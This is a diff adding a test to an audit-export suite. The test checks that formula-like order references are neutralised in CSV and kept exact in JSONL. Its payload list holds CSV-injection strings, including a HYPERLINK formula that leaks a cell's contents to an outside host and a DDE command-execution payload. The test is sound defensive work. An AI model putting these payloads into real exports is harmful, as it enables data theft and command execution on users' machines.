@@ -119,6 +119,24 @@ async def test_audit_event_changes_are_json_text_in_csv(client: httpx.AsyncClien
     assert [int(r["seq"]) for r in rows] == list(range(1, len(rows) + 1))
 
 
+async def test_a_reference_that_looks_like_a_formula_is_inert_in_csv_and_exact_in_jsonl(
+    client: httpx.AsyncClient, history: History
+) -> None:
+    """Issue 19, finding 4: a provider's order reference reaches the export's cells."""
+    world = history.world
+    voucher = await world.issue(10_000_000)
+    attacks = ['=HYPERLINK("http://x/?leak="&A1,"Click")', '+1+cmd|"/Ccalc"!A0', "@SUM(A1)", "-2+3"]
+    for reference in attacks:
+        redeemed = await world.hold(voucher, 100_000, order=reference, path="/v1/redemptions")
+        assert redeemed.status_code == 201, redeemed.text
+    found = {}
+    for fmt in FORMATS:
+        rows = rows_of(fmt, (await export(client, world.auditor, "redemptions", fmt, voucher_id=voucher["id"])).content)
+        found[fmt] = sorted(r["order_reference"] for r in rows)
+    assert found["jsonl"] == sorted(attacks)
+    assert found["csv"] == sorted("'" + a for a in attacks)
+
+
 # -- filters ---------------------------------------------------------------------------------------
 
 
